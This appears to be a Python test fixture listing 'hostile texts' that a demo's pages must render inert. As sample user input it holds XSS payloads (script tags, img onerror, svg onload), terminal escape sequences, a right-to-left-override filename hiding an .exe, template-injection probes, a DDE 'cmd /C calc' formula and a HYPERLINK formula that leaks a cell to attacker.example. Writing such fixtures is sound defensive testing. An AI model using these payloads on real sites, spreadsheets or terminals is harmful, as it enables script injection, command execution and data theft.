"""Hostile texts: what a person might say to break the pages that show it. One person of the demo says them (`HOSTILE`).

They are stored as they were said; the pages have to keep them inert.
"""

from __future__ import annotations

HOSTILE = 60  # the number of the person

TEXTS = (
    "<script>document.title='owned'</script><b>My card is blue</b>",
    '"><img src=x onerror=alert(1)> is how my son writes our surname',
    "\x1b[31mMy account is red\x1b[0m\x1b]0;owned\x07 in every terminal",
    "I sent the file invoice\u202efdp.exe to the branch, please open it",
    "My word for it is " + "unaufhaltsam" * 33 + "keit",  # one word of 400 characters
    '=HYPERLINK("http://attacker.example/?leak="&A1,"My statement")',
    "@SUM(1+1)*cmd|' /C calc'!A0 is what the form shows me",
    "{{ 7*7 }} ${7*7} {% debug %} %(name)s is printed on my letter",
    "My name reads \u0647\u0644\u0627 \u2067demo\u2069 \u200b\u200bDemo in two directions, and I like both with tea",
)
WORDS = "<h1>Answer me</h1><script>alert('request')</script> \u202eIs this a question?\u202c =1+1"
REVISED = "<svg onload=alert(2)> is my favourite picture since Tuesday"
